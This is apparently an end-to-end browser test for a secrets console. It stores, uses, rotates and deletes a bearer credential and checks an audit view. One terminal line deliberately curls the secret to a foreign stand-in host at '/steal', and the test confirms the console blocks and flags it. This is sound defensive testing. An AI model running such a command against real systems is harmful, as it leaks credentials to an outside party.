import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { startConsoleRig } from '../support/console-rig.ts';
import type { ConsoleRig } from '../support/console-rig.ts';
import { headerValues } from '../support/http-bytes.ts';
import { skipWithout, waitUntil } from '../support/processes.ts';
import { sized } from '../support/replies.ts';

const own = 'api.example.com';
const other = 'elsewhere.example.com';
const values = { first: 'real-value-one-0123456789', second: 'real-value-two-0123456789' };

describe('what a person does in the console', { skip: skipWithout('chromium', 'bwrap', 'curl') }, () => {
  let rig: ConsoleRig;
  before(async () => {
    rig = await startConsoleRig([own, other]);
    rig.answer('/hello', () => sized(200, 'hello from upstream'));
  });
  after(() => rig?.stop());

  it('is to store a key, use it in the browser’s terminal, see it used, rotate it, see it misused, and delete it', async () => {
    const { page, context, complaints } = await rig.visit();
    await storeSecret(page);
    await startSandbox(page);

    // A second tab watches the audit.
    const audit = await context.newPage();
    await audit.goto('/#/secrets/crm/audit');
    await audit.getByText('Live', { exact: true }).waitFor();
    await audit.getByText('No request yet').waitFor();

    await typeInTerminal(page, `curl -sS -H "Authorization: Bearer $CRM" https://${own}/hello`);
    await page.getByText('hello from upstream').first().waitFor();
    assert.equal(lastAuthorization(rig), `Bearer ${values.first}`);
    await audit.getByRole('button', { name: `GET ${own}/hello` }).waitFor();
    assert.equal(await rowsOf(audit), 1, 'it arrived by itself');

    await rotate(audit);
    await typeInTerminal(page, `curl -sS -H "Authorization: Bearer $CRM" https://${own}/hello`);
    await waitUntil(() => lastAuthorization(rig) === `Bearer ${values.second}`, { what: 'the new value upstream' });

    await typeInTerminal(page, `curl -sS -H "Authorization: Bearer $CRM" https://${other}/steal`);
    await audit.locator('.line.bad', { hasText: 'credential_host_mismatch' }).waitFor();
    await audit.locator('.line.bad', { hasText: 'out of place' }).waitFor();
    assert.deepEqual(rig.requestsFor('/steal'), []);
    await explain(audit);

    await deleteSecret(audit);
    await page.getByRole('button', { name: 'Delete' }).click();
    await page.getByRole('button', { name: 'Delete sandbox' }).click();
    await page.getByText('No sandbox runs').waitFor();
    assert.deepEqual(complaints, []);
  });
});

async function storeSecret(page: Page): Promise<void> {
  await page.getByText('Store the first key').waitFor();
  await page.getByRole('link', { name: 'New secret' }).click();
  await page.getByText('Own rule').click();
  await page.getByLabel('Hosts').fill(own);
  await page.getByLabel('Name').fill('crm');
  await page.getByLabel('Value').fill(values.first);
  await page.getByText('Authorization: Bearer ••••').waitFor();
  await page.getByRole('button', { name: 'Store secret' }).click();
  await page.getByText('Stored crm.').waitFor();
}

async function startSandbox(page: Page): Promise<void> {
  await page.getByRole('link', { name: 'New sandbox with it' }).click();
  await page.getByLabel('Name').fill('box');
  assert.equal(await page.getByLabel('Variable 1').inputValue(), 'CRM');
  await page.getByRole('button', { name: 'Start sandbox' }).click();
  await page.getByText('Live', { exact: true }).waitFor();
}

async function typeInTerminal(page: Page, line: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Terminal input' }).focus();
  await page.keyboard.type(`${line}\n`);
}

async function rotate(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Rotate' }).click();
  await page.getByLabel('New value').fill(values.second);
  await page.getByRole('dialog').getByRole('button', { name: 'Rotate' }).click();
  await page.getByText('Rotated crm.').waitFor();
}

async function explain(page: Page): Promise<void> {
  await page.locator('.line.bad', { hasText: 'credential_host_mismatch' }).getByRole('button').click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText('What to do:').waitFor();
  await dialog.getByText('not swapped', { exact: true }).waitFor();
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
}

async function deleteSecret(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Delete' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText('1 sandbox loses it at once.').waitFor();
  await dialog.getByText('box', { exact: true }).waitFor();
  await dialog.getByRole('button', { name: 'Delete secret' }).click();
  await page.getByText('Store the first key').waitFor();
}

function lastAuthorization(rig: ConsoleRig): string | undefined {
  const last = rig.requestsFor('/hello').at(-1);
  return last === undefined ? undefined : headerValues(last.head, 'authorization')[0];
}

async function rowsOf(page: Page): Promise<number> {
  return await page.locator('.table .body .line').count();
}
